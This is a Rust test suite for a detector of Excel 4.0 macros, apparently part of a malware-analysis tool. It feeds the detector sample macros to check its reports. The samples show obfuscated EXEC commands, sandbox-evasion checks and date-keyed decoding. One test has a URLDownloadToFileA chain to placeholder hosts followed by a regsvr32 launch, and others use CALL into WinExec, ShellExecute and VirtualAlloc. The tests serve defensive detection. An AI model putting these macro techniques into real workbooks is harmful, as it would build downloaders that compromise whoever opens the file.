//! Listings of macros and what they do. Addresses are inert.

use std::collections::BTreeMap;

use super::formula::Reference;
use super::text::{Notation, parse};
use super::*;
use crate::budget::Limits;
use crate::formats::xls::Visibility;

/// A workbook of cells (`Sheet!A1`, first column of the macro sheet `M` where no sheet is named), and names.
pub(crate) fn book(cells: &[(&str, &str)], names: &[(&str, &str)]) -> Book {
    let mut book = Book { path: "Workbook".into(), ..Book::default() };
    let at = |text: &str| match parse(text, Notation::A1, (1, 1)) {
        Ok(Expr::Cell(Reference { sheet, row, column, .. })) => (sheet.unwrap_or_else(|| "M".into()), row, column),
        other => panic!("{text} is no cell: {other:?}"),
    };
    for (cell, text) in cells {
        let (sheet, row, column) = at(cell);
        let id = book.sheets.iter().position(|other| other.name == sheet).unwrap_or_else(|| {
            book.sheets.push(SheetCells {
                name: sheet.clone(),
                path: "Workbook".into(),
                is_macro: !sheet.starts_with("Sheet"),
                hidden: Visibility::Visible,
                cells: BTreeMap::new(),
            });
            book.sheets.len() - 1
        });
        let content = match text.strip_prefix('=') {
            Some(formula) => {
                let formula = parse(formula, Notation::A1, (row, column)).unwrap_or_else(|why| panic!("{text}: {why}"));
                CellContent { formula: Some(Box::new(formula)), value: None }
            }
            None => {
                // As in Excel, an apostrophe makes it a text.
                let text = text.strip_prefix('\'').unwrap_or(text);
                let value = text.parse().map_or_else(|_| Value::Text((*text).into()), Value::Number);
                CellContent { formula: None, value: Some(value) }
            }
        };
        book.sheets[id].cells.insert((row, column), content);
    }
    for (name, refers_to) in names {
        book.names.push(DefinedName {
            name: (*name).into(),
            sheet: None,
            refers_to: Some(parse(refers_to, Notation::A1, (1, 1)).unwrap()),
        });
    }
    book
}

fn behaviour(book: &Book) -> Behaviour {
    let budget = Budget::new(Limits::default(), |_| ());
    let (behaviour, result) = analyse(book, &budget);
    result.unwrap();
    behaviour
}

/// What a macro does that starts at `M!A1`, and what it would do if somebody started it.
fn does(cells: &[(&str, &str)]) -> Vec<String> {
    let behaviour = behaviour(&book(cells, &[("Auto_Open", "M!$A$1")]));
    let told = |action: &Action| {
        let way = if action.reached_by.is_some() { "" } else { "? " };
        format!("{way}{}: {}", action.kind.id(), action.detail)
    };
    behaviour.actions.iter().map(told).collect()
}

#[test]
fn a_command_is_known_however_it_is_put_together() {
    for (cells, expected) in [
        (&[("A1", "=EXEC(\"calc\")"), ("A2", "=HALT()")][..], "run: calc"),
        (&[("A1", "=EXEC(CHAR(99)&CHAR(97)&CHAR(108)&CHAR(99))")], "run: calc"),
        (&[("A1", "=EXEC(B1&B2)"), ("B1", "ca"), ("B2", "lc")], "run: calc"),
        (&[("A1", "=EXEC(Sheet1!B1&M!B2)"), ("Sheet1!B1", "ca"), ("B2", "lc")], "run: calc"),
        (&[("A1", "=FORMULA(\"=EXEC(\"\"calc\"\")\",A2)"), ("A3", "=HALT()")], "run: calc"),
        (&[("A1", "=FORMULA.FILL(\"=EX\"&\"EC(\"\"calc\"\")\",A3)"), ("A5", "=HALT()")], "run: calc"),
        (&[("A1", "=SET.NAME(\"x\",\"ca\")"), ("A2", "=EXEC(x&\"lc\")")], "run: calc"),
        (&[("A1", "=SET.VALUE(C1,\"calc\")"), ("A2", "=EXEC(C1)")], "run: calc"),
        (&[("A1", "=GOTO(B5)"), ("B6", "=EXEC(\"calc\")")], "run: calc"),
        (&[("A1", "=RUN(M!B5)"), ("B5", "=EXEC(\"calc\")"), ("B6", "=RETURN()")], "run: calc"),
        (&[("A1", "=B5()"), ("B5", "=EXEC(\"calc\")"), ("B6", "=RETURN()")], "run: calc"),
        (&[("A1", "=EXEC(B5(\"cal\"))"), ("B5", "=ARGUMENT(\"a\")"), ("B6", "=RETURN(a&\"c\")")], "run: calc"),
        (&[("A1", "=EXEC(REPLACE(\"xlc\",1,1,\"ca\"))")], "run: calc"),
        (&[("A1", "=EXEC(SUBSTITUTE(\"c-a-l-c\",\"-\",\"\"))")], "run: calc"),
        (&[("A1", "=EXEC(INDEX(B1:B3,2))"), ("B2", "calc")], "run: calc"),
        (&[("A1", "=EXEC(OFFSET(B1,1,1))"), ("C2", "calc")], "run: calc"),
        (&[("A1", "=EXEC(INDIRECT(\"B\"&2))"), ("B2", "calc")], "run: calc"),
        (&[("A1", "=EXEC(VLOOKUP(\"k\",B1:C2,2,FALSE))"), ("B2", "k"), ("C2", "calc")], "run: calc"),
        (&[("A1", "=EXEC(IF(1=1,\"calc\",\"x\"))")], "run: calc"),
        (&[("A1", "=EXEC(_xlfn.IFS(1=2,\"x\",1=1,\"calc\"))")], "run: calc"),
        (&[("A1", "=EXEC(_xlfn.SWITCH(3,1,\"x\",3,\"calc\",\"y\"))")], "run: calc"),
        (&[("A1", "=EXEC(_xlfn.SWITCH(4,1,\"x\",3,\"y\",\"calc\"))")], "run: calc"),
        (&[("A1", "=EXEC(CHAR(_xlfn.ARABIC(\"XCIX\"))&CHAR(GCD(194,291))&\"lc\")")], "run: calc"),
        (
            &[
                ("A1", "=EXEC(CHAR(MEDIAN(B1:B3))&CHAR(LARGE(B1:B3,2)-2)&\"lc\")"),
                ("B1", "1"),
                ("B2", "99"),
                ("B3", "200"),
            ],
            "run: calc",
        ),
        (&[("A1", "=SELECT(B1)"), ("A2", "=EXEC(ACTIVE.CELL())"), ("B1", "calc")], "run: calc"),
        (&[("A1", "=EXEC(\"cmd \"&GET.DOCUMENT(2)&\"\\x\")")], "run: cmd …\\x"),
        (&[("A1", "=ON.TIME(NOW()+1,\"M!R5C2\")"), ("A2", "=HALT()"), ("B5", "=EXEC(\"calc\")")], "run: calc"),
    ] {
        assert_eq!(does(cells), [expected], "{cells:?}");
    }
}

#[test]
fn loops_build_texts() {
    let cells = [
        ("A1", "=SET.NAME(\"t\",\"\")"),
        ("A2", "=FOR(\"i\",1,4)"),
        ("A3", "=SET.NAME(\"t\",t&CHAR(INDEX(B1:B4,i)-1))"),
        ("A4", "=NEXT()"),
        ("A5", "=EXEC(t)"),
        ("B1", "100"),
        ("B2", "98"),
        ("B3", "109"),
        ("B4", "100"),
    ];
    assert_eq!(does(&cells), ["run: calc"]);
    let cells = [
        ("A1", "=SET.NAME(\"t\",\"\")"),
        ("A2", "=FOR.CELL(\"c\",B1:B4,TRUE)"),
        ("A3", "=SET.NAME(\"t\",t&CHAR(c-1))"),
        ("A4", "=NEXT()"),
        ("A5", "=EXEC(t)"),
        ("B1", "100"),
        ("B2", "98"),
        ("B3", "109"),
        ("B4", "100"),
    ];
    assert_eq!(does(&cells), ["run: calc"]);
    let cells = [
        ("A1", "=SET.NAME(\"i\",0)"),
        ("A2", "=SET.NAME(\"t\",\"\")"),
        ("A3", "=WHILE(i<4)"),
        ("A4", "=SET.NAME(\"i\",i+1)"),
        ("A5", "=IF(i=2)"),
        ("A6", "=SET.NAME(\"t\",t&\"a\")"),
        ("A7", "=ELSE.IF(i=3)"),
        ("A8", "=SET.NAME(\"t\",t&\"l\")"),
        ("A9", "=ELSE()"),
        ("A10", "=SET.NAME(\"t\",t&\"c\")"),
        ("A11", "=END.IF()"),
        ("A12", "=NEXT()"),
        ("A13", "=EXEC(t)"),
    ];
    assert_eq!(does(&cells), ["run: calc"]);
}

#[test]
fn checks_of_the_surroundings_stop_nobody() {
    for check in [
        "=IF(GET.WORKSPACE(19),,CLOSE(TRUE))",
        "=IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)",
        "=IF(ISNUMBER(SEARCH(\"Windows\",GET.WORKSPACE(1))),,CLOSE(TRUE))",
        "=IF(ALERT(\"Continue?\",1),,HALT())",
        "=IF(GET.WINDOW(7),GOTO(B1),)",
        "=IF(B2>5,CLOSE(FALSE),)",
        "=IF(ISERROR(FILES(\"C:\\x\")),CLOSE(FALSE),)",
    ] {
        let cells = [
            ("A1", "=ALERT(\"The file is damaged\")"),
            ("A2", "=SET.VALUE(B2,GET.WORKSPACE(42)*9)"),
            ("A3", check),
            ("A4", "=EXEC(\"calc\")"),
            ("B1", "=CLOSE(FALSE)"),
        ];
        assert_eq!(does(&cells), ["run: calc"], "{check}");
    }
    // Both ways are looked at.
    let cells = [("A1", "=IF(GET.WORKSPACE(42),EXEC(\"one\"),EXEC(\"two\"))")];
    assert_eq!(does(&cells), ["run: one", "run: two"]);
}

#[test]
fn every_address_of_a_chain_of_downloads_is_found() {
    // The shape of 2022: formulas put together from cells, one address after the other, then regsvr32.
    let call = |url: &str| {
        format!(
            "=FORMULA(\"=IF(A20<0,CALL(\"\"url\"&\"mon\"\",\"\"URLDownloadToFileA\"\",\"\"JJCCBB\"\",0,\"\"{url}\"\",\"\"..\\x.ocx\"\",0,0),)\",A21)"
        )
    };
    let (first, second) =
        (call("http://a.example/1/"), call("http://b.example/2/").replace("A21", "A22").replace("A20", "A21"));
    let cells = [
        (
            "A1",
            "=FORMULA(Sheet1!B1&\"(\"\"urlmon\"\",\"\"URLDownloadToFileA\"\",\"\"JJCCBB\"\",0,\"\"http://0.example/\"\",\"\"..\\x.ocx\"\",0,0)\",A20)",
        ),
        ("A2", first.as_str()),
        ("A3", second.as_str()),
        ("A4", "=FORMULA(\"=IF(A22<0,CLOSE(0),)\",A23)"),
        ("A5", "=FORMULA(\"=EXEC(\"\"C:\\Windows\\SysWow64\\regsvr32.exe -s ..\\x.ocx\"\")\",A24)"),
        ("A6", "=FORMULA(\"=RETURN()\",A25)"),
        ("Sheet1!B1", "'=CALL"),
    ];
    let mut did = does(&cells);
    did.sort();
    assert_eq!(
        did,
        [
            "download: http://0.example/ → ..\\x.ocx",
            "download: http://a.example/1/ → ..\\x.ocx",
            "download: http://b.example/2/ → ..\\x.ocx",
            "run: C:\\Windows\\SysWow64\\regsvr32.exe -s ..\\x.ocx",
        ]
    );
}

#[test]
fn a_key_of_the_day_is_found() {
    // 19 is the day on which the letters make a formula.
    let text = "=EXEC(\"calc\")";
    let column: Vec<(String, String)> = text
        .chars()
        .enumerate()
        .map(|(i, c)| (format!("B{}", i + 1), format!("={}+{}", u32::from(c) + 19 * 7, 0)))
        .collect();
    let mut cells: Vec<(&str, &str)> = column.iter().map(|(cell, text)| (cell.as_str(), text.as_str())).collect();
    let build = "=SET.NAME(\"t\",t&CHAR(c-k*7))";
    cells.extend([
        ("A1", "=SET.NAME(\"k\",DAY(NOW()))"),
        ("A2", "=SET.NAME(\"t\",\"\")"),
        ("A3", "=FOR.CELL(\"c\",B1:B13,TRUE)"),
        ("A4", build),
        ("A5", "=NEXT()"),
        ("A6", "=FORMULA(t,A8)"),
        ("A9", "=HALT()"),
    ]);
    assert_eq!(does(&cells), ["run: calc"]);
}

#[test]
fn libraries_are_known_by_what_they_do() {
    for (formula, expected) in [
        (
            "=CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\",0,\"open\",\"rundll32\",\"x.dll,Go\",0,0)",
            "run: rundll32 x.dll,Go",
        ),
        ("=CALL(\"kernel32.dll\",\"WinExec\",\"JCJ\",\"calc\",0)", "run: calc"),
        ("=CALL(\"Kernel32\",\"VirtualAlloc\",\"JJJJJ\",0,65536,4096,64)", "inject: Kernel32!VirtualAlloc"),
        ("=CALL(\"Kernel32\",\"CreateDirectoryA\",\"JCJ\",\"C:\\x\",0)", "write: C:\\x"),
        ("=CALL(\"C:\\x\\y.dll\",\"Go\",\"J\")", "run: C:\\x\\y.dll,Go"),
        ("=CALL(B1,B2&GET.DOCUMENT(2),\"J\")", "hidden: !…"),
        ("=INITIATE(\"cmd\",\"/c calc\")", "run: cmd|/c calc"),
        ("=FILE.DELETE(\"C:\\x.txt\")", "delete: C:\\x.txt"),
        ("=OPEN(\"http://a.example/b.xls\")", "download: http://a.example/b.xls"),
    ] {
        assert_eq!(does(&[("A1", formula)]), [expected], "{formula}");
    }
    let registered = [
        ("A1", "=REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",\"fetch\",,1,9)"),
        ("A2", "=fetch(0,\"http://a.example/x\",\"C:\\x\",0,0)"),
        ("A3", "=REGISTER(\"shell32\",\"ShellExecuteA\",\"JJCCCJJ\")"),
        ("A4", "=CALL(A3,0,\"open\",\"C:\\x\",,0,0)"),
    ];
    assert_eq!(does(&registered), ["download: http://a.example/x → C:\\x", "run: C:\\x"]);
    let written = [
        ("A1", "=FOPEN(\"C:\\x.vbs\",3)"),
        ("A2", "=FWRITELN(A1,\"On Error Resume Next\")"),
        ("A3", "=FCLOSE(A1)"),
        ("A4", "=EXEC(\"wscript C:\\x.vbs\")"),
    ];
    assert_eq!(does(&written), ["write: C:\\x.vbs", "run: wscript C:\\x.vbs"]);
}

#[test]
fn chains_of_calls_may_be_long() {
    // Each macro calls the next one and never returns.
    let chain: Vec<(String, String)> = (1..600)
        .map(|i| {
            let call =
                if i % 2 == 0 { format!("=A{}()", i * 3 + 3) } else { format!("=IF(1=1,RUN(A{}),HALT())", i * 3 + 3) };
            (format!("A{}", i * 3), call)
        })
        .chain([("A1800".to_owned(), "=EXEC(\"calc\")".to_owned()), ("A1801".to_owned(), "=HALT()".to_owned())])
        .collect();
    let cells: Vec<(&str, &str)> = chain.iter().map(|(cell, text)| (cell.as_str(), text.as_str())).collect();
    assert_eq!(does(&cells), ["run: calc"]);
    // What a macro returns is the value of the cell that called it.
    let cells = [
        ("A1", "=C1(\"al\")"),
        ("A2", "=EXEC(A1)"),
        ("A3", "=HALT()"),
        ("C1", "=ARGUMENT(\"x\")"),
        ("C2", "=RETURN(\"c\"&x&\"c\")"),
    ];
    assert_eq!(does(&cells), ["run: calc"]);
}

#[test]
fn the_active_cell_wanders() {
    let cells = [
        ("A1", "=SET.NAME(\"t\",\"\")"),
        ("A2", "=SELECT(B1)"),
        ("A3", "=WHILE(ACTIVE.CELL()<>\"END\")"),
        ("A4", "=SET.NAME(\"t\",t&CHAR(ACTIVE.CELL()))"),
        ("A5", "=SELECT(,\"R[1]C\")"),
        ("A6", "=NEXT()"),
        ("A7", "=EXEC(t)"),
        ("A8", "=HALT()"),
        ("B1", "99"),
        ("B2", "97"),
        ("B3", "108"),
        ("B4", "99"),
        ("B5", "END"),
    ];
    assert_eq!(does(&cells), ["run: calc"]);
}

#[test]
fn what_nothing_starts_is_told_apart() {
    let book = book(
        &[("A1", "=ALERT(\"Hello\")"), ("A2", "=RETURN()"), ("B1", "=EXEC(\"calc\")")],
        &[("Auto_Open", "M!$A$1")],
    );
    let found = behaviour(&book);
    assert_eq!(found.triggers.len(), 1);
    assert!(!found.unknown);
    assert_eq!(found.actions.len(), 1);
    assert_eq!(found.actions[0].reached_by, None);
    assert_eq!(found.actions[0].place.path, "Workbook#M!B1");
    assert_eq!(found.actions[0].place.excerpt, "=EXEC(\"calc\")");
}

#[test]
fn triggers_are_names_in_any_spelling() {
    for name in ["auto_open", "AUTO_OPEN1", "_xlnm.Auto_Open", "Aut\0o_Open", "Auto_Close", "auto_activate"] {
        let found = behaviour(&book(&[("A1", "=EXEC(\"calc\")")], &[(name, "M!$A$1")]));
        assert_eq!(found.actions.first().and_then(|action| action.reached_by), Some(0), "{name:?}");
    }
    let indirect = book(&[("B7", "=EXEC(\"calc\")")], &[("Auto_Open", "OFFSET(M!$A$1,6,1)")]);
    assert_eq!(behaviour(&indirect).actions[0].reached_by, Some(0));
    let none = behaviour(&book(&[("A1", "=EXEC(\"calc\")")], &[("Total", "M!$A$1")]));
    assert!(none.triggers.is_empty() && none.actions[0].reached_by.is_none());
}

#[test]
fn what_cannot_be_followed_is_said() {
    let lost = |cells: &[(&str, &str)]| behaviour(&book(cells, &[("Auto_Open", "M!$A$1")])).unknown;
    assert!(lost(&[("A1", "=FORMULA(GET.DOCUMENT(1)&\"x\",A2)")]) || lost(&[("A1", "=RUN(\"Book2.xls!Macro\")")]));
    assert!(lost(&[("A1", "=RUN(\"Book2.xls!Macro\")")]));
    assert!(lost(&[("A1", "=Nowhere()")]));
    assert!(!lost(&[("A1", "=FORMAT.NUMBER(\"0.00\")"), ("A2", "=COLUMN.WIDTH(12)"), ("A3", "=RETURN()")]));
    assert!(!lost(&[
        ("A1", "=ECHO(FALSE)"),
        ("A2", "=SELECT(\"R1C1\")"),
        ("A3", "=FORMULA(\"Total\")"),
        ("A4", "=RETURN()")
    ]));
}

#[test]
fn many_triggers_and_many_forks_cost_no_more_than_one() {
    let names: Vec<String> = (0..300).map(|i| format!("Auto_Open{i}")).collect();
    let names: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "M!$A$1")).collect();
    let budget = Budget::new(Limits::default(), |_| ());
    let (found, result) = analyse(&book(&[("A1", "=EXEC(\"calc\")"), ("A2", "=GOTO(A2)")], &names), &budget);
    assert!(result.is_err() && found.actions.len() == 1);
    assert!(budget.steps(150_000_000).is_ok());
    let forks: Vec<(String, String)> =
        (1..=700).map(|i| (format!("A{i}"), format!("=IF(ALERT(\"{i}\"),,EXEC(\"calc {i}\"))"))).collect();
    let cells: Vec<(&str, &str)> = forks.iter().map(|(cell, text)| (cell.as_str(), text.as_str())).collect();
    let (found, result) = analyse(&book(&cells, &[("Auto_Open", "M!$A$1")]), &budget);
    assert!(result.is_err() && found.unknown && found.actions.len() > 500);
}

#[test]
fn endless_and_exploding_macros_end() {
    let cut = |cells: &[(&str, &str)]| {
        let budget = Budget::new(Limits::default(), |_| ());
        let (found, result) = analyse(&book(cells, &[("Auto_Open", "M!$A$1")]), &budget);
        assert!(matches!(result, Err(Error::Limit(LimitKind::Steps))), "{cells:?}");
        assert!(found.unknown);
    };
    cut(&[("A1", "=GOTO(A1)")]);
    cut(&[("A1", "=A1()")]);
    cut(&[
        ("A1", "=SET.NAME(\"x\",\"aaaaaaaa\")"),
        ("A2", "=WHILE(TRUE)"),
        ("A3", "=SET.NAME(\"x\",RIGHT(x&x,30000))"),
        ("A4", "=FORMULA(x,OFFSET(C1,RAND()*0,0))"),
        ("A5", "=NEXT()"),
    ]);
    // Cells that double each other are computed once each.
    let column: Vec<(String, String)> =
        (1..60).map(|i| (format!("Sheet1!A{i}"), format!("=Sheet1!A{}&Sheet1!A{}", i + 1, i + 1))).collect();
    let mut cells: Vec<(&str, &str)> = column.iter().map(|(cell, text)| (cell.as_str(), text.as_str())).collect();
    cells.push(("A1", "=EXEC(Sheet1!A1)"));
    assert_eq!(does(&cells).len(), 1);
}
